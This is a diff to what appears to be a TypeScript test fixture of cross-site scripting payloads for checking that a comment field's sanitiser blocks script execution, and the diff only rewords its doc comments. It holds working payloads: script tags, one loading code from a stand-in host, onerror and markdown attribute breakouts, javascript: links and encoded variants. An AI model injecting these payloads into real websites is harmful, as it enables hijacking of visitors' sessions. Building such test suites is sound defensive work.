@@ -1,11 +1,11 @@
 const COMMENT_MAX = 2000;
 
-/** What a script that got through would do; the specs look for its trace. */
+/** Sets a mark that the specs look for if a script runs. */
 const RUN = 'window.__xss=1';
 const RUN_ENTITIES = '&#119;indow.__xss&#61;1';
 const RUN_BASE64 = 'PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg==';
 
-/** Elements that run something by themselves. */
+/** Elements that execute by themselves. */
 const ELEMENTS = [
   `<script>${RUN}</script>`,
   `<script src=//evil.test/x.js></script>`,
@@ -44,10 +44,10 @@ const ELEMENTS = [
   `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
 ];
 
-/** What stands before an element so that it leaves whatever it was put into. */
+/** Prefixes that close the element around the payload. */
 const ESCAPES = ['', '">', `'>`, '</textarea></title></style>', '--></script>'];
 
-/** Addresses that run something when they are followed. */
+/** Addresses that execute when followed. */
 const SCHEMES = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
@@ -74,7 +74,7 @@ const LINKS: ((address: string) => string)[] = [
   (address) => `[x]: ${address}\n[x]`,
 ];
 
-/** Markdown that breaks out of what it becomes, templates, and other ways to write the same. */
+/** Markdown that breaks out of its element, templates, and other encodings. */
 const TRICKS = [
   `[x](https://example.org/"onmouseover="${RUN})`,
   `[x](https://example.org/'onclick='${RUN})`,
@@ -124,12 +124,12 @@ export const XSS_PAYLOADS: readonly string[] = [
   ]),
 ];
 
-/** Each payload after a mark of its own, so that a lost one is noticed. */
+/** Each payload with its own mark, so that a lost one is noticed. */
 export const MARKED: readonly string[] = XSS_PAYLOADS.map(
   (payload, index) => `m${index}m\n\n${payload}`,
 );
 
-/** Several to a text, as many as it holds. */
+/** Packs as many payloads into a text as fit. */
 export function packTexts(all: readonly string[], max = COMMENT_MAX): string[] {
   const texts: string[] = [];
   for (const text of all) {
